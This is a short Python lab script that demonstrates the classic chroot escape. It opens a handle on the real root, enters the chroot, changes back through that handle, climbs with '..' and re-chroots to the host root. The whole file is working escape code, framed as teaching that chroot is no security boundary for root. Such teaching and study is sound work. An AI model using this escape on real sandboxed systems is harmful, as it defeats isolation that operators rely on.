"""The classic chroot escape, for lab 01: chroot is not a security boundary for root.

Usage: python3 escape.py ROOTFS
"""

import os
import sys

rootfs = sys.argv[1]
handle = os.open("/", os.O_RDONLY)  # a handle on the real root, opened BEFORE chroot
os.chroot(rootfs)
os.chdir("/")
print("inside the chroot, / holds:", sorted(os.listdir("/")))

os.fchdir(handle)  # step back into a directory outside the new root...
for _ in range(64):  # ...and climb: ".." is only stopped at the process's root, which we are outside of
    os.chdir("..")
os.chroot(".")  # make the real root our root again
print("after the escape, / holds:", sorted(os.listdir("/")))
